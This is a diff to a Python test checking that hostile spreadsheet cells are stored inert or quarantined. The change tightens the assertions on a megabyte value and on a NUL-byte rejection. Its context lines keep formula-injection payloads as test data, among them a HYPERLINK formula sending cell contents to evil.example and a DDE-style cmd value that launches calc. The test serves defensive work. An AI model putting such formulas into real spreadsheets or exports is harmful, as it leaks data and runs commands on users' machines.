@@ -172,7 +172,7 @@ def test_hostile_cells_are_stored_inert_or_quarantined(crashable: dict, tmp_path
     assert stored["H1"] == '=HYPERLINK("http://evil.example/?"&A1,"click")'
     assert stored["H2"] == "+cmd¦' /C calc'!A0" and stored["H3"] == "-2+3"
     assert stored["H4"] == "@SUM(1+1)"
-    assert stored.get("BIG1") == megabyte or any(q[0] == len(rows) - 1 for q in quarantined)
-    assert len(quarantined) == result.rows_rejected >= 1
+    assert stored["BIG1"] == megabyte  # a long text value is data, stored whole
+    assert len(quarantined) == result.rows_rejected == 1
     nul = [q for q in quarantined if q[0] == len(rows)]
     assert nul and nul[0][1] == "fault_class" and "NUL" in nul[0][2], quarantined
